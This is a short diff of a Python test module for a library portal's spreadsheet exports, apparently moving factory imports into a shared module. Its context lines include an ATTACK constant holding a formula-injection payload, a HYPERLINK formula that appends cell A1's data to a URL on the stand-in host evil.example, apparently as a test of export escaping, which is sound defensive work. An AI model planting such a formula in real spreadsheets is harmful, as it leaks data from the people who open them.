@@ -14,9 +14,8 @@ from feedback.services import survey_response_record
 from ill.models import Status
 from library_portal.exports import spreadsheet_cell, spreadsheet_row
 from services.models import Consultation
+from tests.factories import BranchFactory, EServiceFactory, IllRequestFactory
 from tests.feedback.conftest import answers, build_survey
-from tests.ill.factories import IllRequestFactory
-from tests.services.factories import BranchFactory, EServiceFactory
 
 ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Spauskite")'
 
